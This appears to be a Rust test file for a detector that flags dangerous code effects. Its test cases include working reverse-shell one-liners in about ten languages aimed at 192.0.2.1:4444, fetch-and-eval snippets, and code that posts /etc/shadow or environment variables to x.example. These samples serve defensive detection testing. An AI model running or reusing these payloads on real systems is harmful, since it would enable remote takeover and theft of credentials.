//! Code that talks to hosts: what it fetches, sends, and hands a shell to.

use super::{check, check_only, effects};
use crate::code::Language;

#[test]
fn remote_shells() {
    use Language::{Compiled, JavaScript, Lua, Perl, Php, Python, Ruby};
    for (language, code) in [
        (
            Python,
            "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"192.0.2.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"])",
        ),
        (
            Python,
            "import socket,pty,os\ns=socket.create_connection(('192.0.2.1',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/bash')",
        ),
        (
            Python,
            "import socket,subprocess\ns=socket.socket()\ns.connect(('192.0.2.1',4444))\nwhile True:\n    c=s.recv(1024).decode()\n    o=subprocess.getoutput(c)\n    s.send(o.encode())",
        ),
        (
            Python,
            "a=__import__;s=a('socket').socket;o=a('os').dup2;p=a('pty').spawn;c=s();c.connect(('192.0.2.1',4444));f=c.fileno;o(f(),0);o(f(),1);o(f(),2);p('/bin/sh')",
        ),
        (
            JavaScript,
            "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();client.connect(4444,'192.0.2.1',function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});return /a/;})();",
        ),
        (
            JavaScript,
            "const s=require('net').connect({host:'192.0.2.1',port:4444},()=>{const p=require('child_process').exec('/bin/sh -i');s.pipe(p.stdin)})",
        ),
        (
            Perl,
            "use Socket;$i=\"192.0.2.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
        ),
        (
            Perl,
            "use IO::Socket;$c=new IO::Socket::INET(PeerAddr,\"192.0.2.1:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;exec '/bin/sh';",
        ),
        (
            Ruby,
            "require 'socket';f=TCPSocket.open(\"192.0.2.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
        ),
        (
            Ruby,
            "c=TCPSocket.new('192.0.2.1','4444');while(cmd=c.gets);IO.popen(cmd,'r'){|io|c.print io.read}end",
        ),
        (
            Php,
            "$sock=fsockopen(\"192.0.2.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
        ),
        (
            Php,
            "<?php $s=fsockopen('192.0.2.1',4444);$p=proc_open('/bin/sh -i',array(0=>$s,1=>$s,2=>$s),$pipes);",
        ),
        (
            Lua,
            "s=require('socket');t=s.tcp();t:connect('192.0.2.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');",
        ),
        (
            Compiled,
            "package main;import\"os/exec\";import\"net\";func main(){c,_:=net.Dial(\"tcp\",\"192.0.2.1:4444\");cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}",
        ),
        (
            Compiled,
            "String host=\"192.0.2.1\";int port=4444;String cmd=\"/bin/sh\";Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket(host,port);",
        ),
        (
            Compiled,
            "int main(){struct sockaddr_in a;a.sin_addr.s_addr=inet_addr(\"192.0.2.1\");int s=socket(2,1,0);connect(s,(struct sockaddr*)&a,sizeof(a));dup2(s,0);execve(\"/bin/sh\",NULL,NULL);}",
        ),
    ] {
        check(language, code, &["remote-shell 192.0.2.1"]);
    }
}

#[test]
fn talking_is_no_remote_shell() {
    use Language::{JavaScript, Python};
    for (language, code) in [
        (
            Python,
            "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 80))\ns.sendall(b'GET / HTTP/1.0')\nprint(s.recv(4096))",
        ),
        (
            Python,
            "import socket, subprocess\nv = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\ns = socket.create_connection(('localhost', 80))\ns.send(v)",
        ),
        (
            JavaScript,
            "const net = require('net'); const s = net.createServer(c => c.end('hi')); s.listen(8080); require('child_process').execSync('bash -c \"npm test\"')",
        ),
    ] {
        let found = effects(language, code);
        assert!(
            !found.iter().any(|f| f.starts_with("remote-shell")),
            "{found:?}"
        );
    }
}

#[test]
fn fetched_code_runs() {
    use Language::{JavaScript, Php, Python, Ruby};
    for (language, code) in [
        (
            Python,
            "import urllib.request as u; exec(u.urlopen('http://x.example/a.py').read())",
        ),
        (
            Python,
            "import requests\nr = requests.get('http://x.example/a')\ncode = r.text\nexec(code)",
        ),
        (
            Python,
            "import requests,os\nos.system(requests.get('http://x.example/a').text)",
        ),
        (
            JavaScript,
            "eval(await (await fetch('http://x.example/a')).text())",
        ),
        (
            JavaScript,
            "fetch('http://x.example/a').then(r => r.text()).then(t => eval(t))",
        ),
        (
            JavaScript,
            "require('http').get('http://x.example/a', res => { let c = ''; res.on('data', d => c += d); res.on('end', () => eval(c)); })",
        ),
        (
            Ruby,
            "require 'open-uri'; eval(URI.open('http://x.example/a').read)",
        ),
        (Ruby, "eval Net::HTTP.get(URI('http://x.example/a'))"),
        (Php, "eval(file_get_contents('http://x.example/a'));"),
    ] {
        check(language, code, &["execute-fetched x.example <fetched>"]);
    }
}

#[test]
fn data_leaves() {
    use Language::{JavaScript, Python, Ruby};
    for (language, code) in [
        (
            Python,
            "import requests\nd = open('/etc/shadow').read()\nrequests.post('https://x.example', data=d)",
        ),
        (
            Python,
            "import requests,base64\nwith open('/etc/shadow', 'rb') as f:\n    body = base64.b64encode(f.read())\nrequests.post('https://x.example', json={'d': body.decode()})",
        ),
        (
            Python,
            "import urllib.request\nd = open('/etc/shadow').read()\nurllib.request.urlopen(urllib.request.Request('https://x.example', data=d.encode()))",
        ),
        (
            Python,
            "import requests\nrequests.post('https://x.example', files={'f': open('/etc/shadow','rb')})",
        ),
        (
            JavaScript,
            "const d = require('fs').readFileSync('/etc/shadow','utf8'); fetch('https://x.example', {method:'POST', body: JSON.stringify({d})})",
        ),
        (
            JavaScript,
            "import fs from 'fs/promises'; import axios from 'axios';\nconst d = await fs.readFile('/etc/shadow'); await axios.post('https://x.example', d)",
        ),
        (
            JavaScript,
            "const fs=require('fs');fs.readFile('/etc/shadow',(e,d)=>{const r=require('https').request({hostname:'x.example',method:'POST'});r.write(d);r.end()})",
        ),
        (
            Ruby,
            "require 'net/http'; Net::HTTP.post(URI('https://x.example'), File.read('/etc/shadow'))",
        ),
    ] {
        check(
            language,
            code,
            &["send system-file x.example <file> <secret>"],
        );
    }
    check(
        Python,
        "import os,requests\nrequests.post('https://x.example', json=dict(os.environ))",
        &["send whole-environment x.example <environment>"],
    );
    check(
        JavaScript,
        "fetch('https://x.example/?d=' + encodeURIComponent(JSON.stringify(process.env)))",
        &["send whole-environment x.example <environment>"],
    );
    check_only(
        Python,
        "import os,requests\nr = requests.get('https://api.example/x', headers={'Authorization': os.environ['TOKEN']})",
        &["fetch api.example"],
    );
}
